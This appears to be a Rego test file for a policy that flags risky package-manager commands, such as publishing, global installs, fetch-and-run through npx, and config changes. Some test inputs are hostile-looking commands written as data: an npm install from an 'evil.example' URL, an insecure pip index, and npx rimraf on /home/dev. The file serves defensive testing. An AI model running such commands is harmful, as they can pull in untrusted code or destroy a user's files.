package guard.tier_test

import data.guard.fixture.ids

_sub(name, sub, flags, operands) := [{"name": name, "sub": sub, "flags": flags, "operands": operands, "args": array.concat([sub], operands)}]

test_publish if {
	every stage in [_sub("npm", "publish", [], []), _sub("cargo", "publish", [], []), _sub("twine", "upload", [], ["dist/x"]), _sub("gem", "push", [], ["x"])] {
		"package.publish" in ids(stage)
	}
}

test_publish_dry if not "package.publish" in ids(_sub("npm", "publish", ["dry-run"], []))

test_system_package if "package.system" in ids(_sub("apt-get", "install", [], ["jq"]))

test_system_package_search if not "package.system" in ids(_sub("apt", "search", [], ["jq"]))

test_global if "package.global" in ids(_sub("npm", "install", ["g"], ["x"]))

test_local if not "package.global" in ids(_sub("npm", "install", [], ["x"]))

test_foreign if "package.foreign" in ids(_sub("npm", "install", [], ["https://evil.example/x.tgz"]))

test_from_the_registry if not "package.foreign" in ids(_sub("npm", "install", [], ["x@1"]))

test_fetch_run if {
	"package.fetch_run" in ids(_sub("npx", "", ["y"], ["x"]))
	"package.fetch_run" in ids(_sub("npx", "", [], ["x@latest"]))
	"package.fetch_run" in ids(_sub("go", "run", [], ["github.com/x/y@latest"]))
}

test_run_installed if {
	not "package.fetch_run" in ids(_sub("npx", "", [], ["tsc"]))
	not "package.fetch_run" in ids(_sub("npx", "", [], ["@scope/tool"]))
	not "package.fetch_run" in ids(_sub("go", "run", [], ["./cmd/x"]))
}

test_package_config if {
	"package.config" in ids(_sub("npm", "config", [], ["set", "ignore-scripts", "false"]))
	"package.config" in ids(_sub("pip", "config set", [], ["global.index-url", "http://x"]))
}

test_package_config_read if not "package.config" in ids(_sub("npm", "config", [], ["get", "registry"]))

test_rimraf if "package.rimraf" in ids(_sub("npx", "", ["y"], ["rimraf", "/home/dev"]))

test_another_tool if not "package.rimraf" in ids(_sub("npx", "", [], ["eslint", "."]))
